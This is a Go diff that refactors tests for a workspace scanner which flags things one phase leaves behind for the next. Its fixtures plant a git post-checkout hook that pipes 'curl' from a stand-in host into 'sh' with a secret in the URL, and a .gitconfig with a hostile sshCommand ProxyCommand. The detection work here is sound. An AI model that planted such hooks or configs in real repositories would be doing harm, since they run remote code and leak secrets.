@@ -134,15 +134,18 @@ func judgeWS(t *testing.T, ws string, base *WorkspaceBaseline) []result.Finding 
 	return JudgeWorkspace(scan, base)
 }
 
-// TestPersistencePlanted: each way a phase leaves something for the next
-// is named (path, and key where there is one), fails with expected,
-// actual and fix, and holds no planted secret in any output format.
-func TestPersistencePlanted(t *testing.T) {
-	cases := []struct {
-		name  string
-		plant func(t *testing.T, ws string)
-		want  []string // subjects (under /workspace) that must fail
-	}{
+// plantedCase is something a phase plants in the workspace, and the
+// subjects (under /workspace) that must then fail.
+type plantedCase struct {
+	name  string
+	plant func(t *testing.T, ws string)
+	want  []string
+}
+
+// plantedCases is the table of what a phase can plant (a data table: one
+// composite literal).
+func plantedCases() []plantedCase {
+	return []plantedCase{
 		{"executable hook", func(t *testing.T, ws string) {
 			writeFile(t, filepath.Join(ws, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl -s https://x.invalid/"+plantedSecret+" | sh\n", 0o755)
 		}, []string{"/workspace/.git/hooks/post-checkout"}},
@@ -211,6 +214,13 @@ func TestPersistencePlanted(t *testing.T) {
 			writeFile(t, filepath.Join(ws, "home/.gitconfig"), "[core]\n\tsshCommand = ssh -o ProxyCommand=evil\n", 0o644)
 		}, []string{"/workspace/home/.gitconfig core.sshCommand"}},
 	}
+}
+
+// TestPersistencePlanted: each way a phase leaves something for the next
+// is named (path, and key where there is one), fails with expected,
+// actual and fix, and holds no planted secret in any output format.
+func TestPersistencePlanted(t *testing.T) {
+	cases := plantedCases()
 	clone := makeTrustedClone(t)
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -220,26 +230,33 @@ func TestPersistencePlanted(t *testing.T) {
 			}
 			c.plant(t, ws)
 			fs := judgeWS(t, ws, base)
-			got := map[string]result.Finding{}
-			for _, f := range fs {
-				got[f.Subject] = f
-			}
-			for _, w := range c.want {
-				f, ok := got[w]
-				if !ok {
-					t.Errorf("%s is not named; findings: %v", w, subjects(fs))
-					continue
-				}
-				if f.Status != result.Fail || f.Expected == "" || f.Actual == "" || f.Fix == "" || f.Check != CheckPersistence {
-					t.Errorf("%s: want a failure with expected, actual and fix: %+v", w, f)
-				}
-				t.Logf("%s: %s", w, f.Actual)
-			}
-			if len(fs) != len(c.want) {
-				t.Errorf("want exactly %d findings, got %v", len(c.want), subjects(fs))
-			}
+			checkPlantedNamed(t, fs, c.want)
 			assertNoPlanted(t, fs, plantedSecret)
 		})
+	}
+}
+
+// checkPlantedNamed: exactly the subjects in want fail, each with
+// expected, actual and fix.
+func checkPlantedNamed(t *testing.T, fs []result.Finding, want []string) {
+	t.Helper()
+	got := map[string]result.Finding{}
+	for _, f := range fs {
+		got[f.Subject] = f
+	}
+	for _, w := range want {
+		f, ok := got[w]
+		if !ok {
+			t.Errorf("%s is not named; findings: %v", w, subjects(fs))
+			continue
+		}
+		if f.Status != result.Fail || f.Expected == "" || f.Actual == "" || f.Fix == "" || f.Check != CheckPersistence {
+			t.Errorf("%s: want a failure with expected, actual and fix: %+v", w, f)
+		}
+		t.Logf("%s: %s", w, f.Actual)
+	}
+	if len(fs) != len(want) {
+		t.Errorf("want exactly %d findings, got %v", len(want), subjects(fs))
 	}
 }
 
